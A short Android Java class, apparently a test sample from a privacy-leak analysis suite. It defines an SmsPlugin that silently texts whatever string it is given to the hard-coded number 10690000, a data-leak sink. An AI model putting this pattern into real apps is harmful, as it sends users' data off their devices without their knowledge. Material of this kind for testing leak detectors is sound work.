package cn.privlens.suite.unknown_name_no_value;

import android.telephony.SmsManager;

public class SmsPlugin extends Plugin {
    @Override
    public void run(String s) { SmsManager.getDefault().sendTextMessage("10690000", null, s, null, null); }
}
